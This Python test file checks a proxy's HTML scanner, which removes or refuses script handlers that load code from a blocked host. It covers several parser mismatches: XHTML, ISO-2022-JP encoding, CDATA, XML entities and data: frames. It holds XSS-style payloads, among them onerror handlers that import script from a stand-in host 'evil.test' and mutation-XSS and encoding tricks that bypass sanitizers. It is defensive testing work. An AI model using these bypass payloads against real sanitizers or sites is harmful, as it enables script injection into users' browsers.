"""Where the scanner's HTML readings are not the browser's, nothing it removes or keeps
may be trusted to them (third red team of issue 17's handler placement).

* A removal can change how the rest of the page parses: the page as stripped is read
  again, and anything left to remove refuses it (``StripUnsettled``).
* XHTML is parsed as XML (a ``<textarea>`` holds markup, entities expand) and a
  stateful encoding (ISO-2022-JP) is read as ASCII by the scanner: a handler that loads
  anywhere in such a document refuses it (``HandlersUnplaced``), as do ``data:`` frames
  of an XML type.
* The same documents without a handler that loads pass untouched.
"""

from __future__ import annotations

import ada_url
import pytest

from proxy_addons.core.htmlscan import HandlersUnplaced, Scanner, StripUnsettled
from proxy_addons.core.model import Match, Mode, RuleKind

PAGE = "http://site.test/p.html"
EVIL = "import('//evil.test/x.js')"
XHTML_HEAD = (
    '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">'
    "<head><title>t</title></head><body>"
)


def is_blocked(url: str) -> Match | None:
    try:
        host = ada_url.URL(url).hostname
    except ValueError:
        return None
    if host == "evil.test" or host.endswith(".evil.test"):
        return Match("hosts", "evil.test", 1, RuleKind.DOMAIN, "malware", Mode.ENFORCE, host)
    return None


@pytest.fixture(params=[True, False], ids=["fast", "precise"])
def scanner(request: pytest.FixtureRequest) -> Scanner:
    return Scanner(is_blocked, fast_path=request.param)


def test_a_cut_that_makes_the_rest_of_the_page_live_refuses_it(scanner: Scanner) -> None:
    # In one reading the <a onclick> is a tag and its handler is cut; in Chromium's the
    # text is in a <style>, and the cut takes its "</style><textarea>" with it: the
    # <img onerror> behind the CDATA would become live.
    doc = (
        f'<svg></p><style><a onclick="{EVIL}//</style><textarea>"></style>'
        "<![CDATA[><img src=x onerror=\"import('//evil.test/b.js')\">]]></textarea>"
    )
    with pytest.raises(StripUnsettled):
        scanner.strip(doc.encode(), PAGE, "text/html")


def test_a_clean_strip_is_read_again_and_passes(scanner: Scanner) -> None:
    doc = f'<p>a</p><img src=x onerror="{EVIL}"><script src="//evil.test/y.js"></script><p>b</p>'
    out, findings = scanner.strip(doc.encode(), PAGE, "text/html")
    assert b"//evil.test" not in out and sum(f.removed for f in findings) == 2


@pytest.mark.parametrize(
    "inner",
    [
        f'<textarea><img src="x" onerror="{EVIL}"/></textarea>',
        f'<p><title><img src="x" onerror="{EVIL}"/></title></p>',
        f'<style><img src="x" onerror="{EVIL}"/></style>',
        f'<noscript><img src="x" onerror="{EVIL}"/></noscript>',
        f'<xmp><img src="x" onerror="{EVIL}"/></xmp>',
        f'<p><![CDATA[ <!-- ]]><img src="x" onerror="{EVIL}"/><![CDATA[ --> ]]></p>',
    ],
)
@pytest.mark.parametrize(
    "content_type", ["application/xhtml+xml", 'application/xhtml+xml; charset="utf-8"']
)
def test_xhtml_with_a_loading_handler_anywhere_is_refused(
    scanner: Scanner, inner: str, content_type: str
) -> None:
    body = (XHTML_HEAD + inner + "</body></html>").encode()
    with pytest.raises(HandlersUnplaced):
        scanner.strip(body, PAGE, content_type)
    # Served as HTML, the same bytes hold no handler (a textarea's text): kept.
    if "CDATA" not in inner:
        assert scanner.strip(body, PAGE, "text/html")[0] == body


def test_an_xml_entity_that_expands_to_a_handler_is_refused(scanner: Scanner) -> None:
    body = (
        '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x "&#60;img src=\'x\' '
        f'onerror=\\"{EVIL}\\"/&#62;">]>'
        '<html xmlns="http://www.w3.org/1999/xhtml"><body><p>&x;</p></body></html>'
    ).encode()
    with pytest.raises(HandlersUnplaced):
        scanner.strip(body, PAGE, "application/xhtml+xml")


def test_clean_xhtml_passes_untouched(scanner: Scanner) -> None:
    body = (
        XHTML_HEAD + '<textarea>gumblar.cn</textarea><button onclick="go()">go</button>'
        "</body></html>"
    ).encode()
    assert scanner.strip(body, PAGE, "application/xhtml+xml") == (body, [])


def test_a_stateful_encoding_with_a_loading_handler_is_refused(scanner: Scanner) -> None:
    # In ISO-2022-JP, "<!--" inside the JIS X 0208 run is two Japanese characters to the
    # browser: the <img> after it is live; read as ASCII it is in a comment.
    body = b'<p>\x1b$B<!--\x1b(B</p><img src=x onerror="' + EVIL.encode() + b'">'
    with pytest.raises(HandlersUnplaced):
        scanner.strip(body, PAGE, "text/html; charset=iso-2022-jp")


def test_an_xml_data_frame_with_a_loading_handler_is_refused(scanner: Scanner) -> None:
    inner = (
        '<html xmlns="http://www.w3.org/1999/xhtml"><body><textarea>'
        f'<img src="x" onerror="{EVIL}"/></textarea></body></html>'
    )
    url = "data:application/xhtml+xml," + inner.replace("#", "%23")
    body = f'<iframe src="{url.replace(chr(34), "&quot;")}"></iframe>'.encode()
    with pytest.raises(HandlersUnplaced):
        scanner.strip(body, PAGE, "text/html")
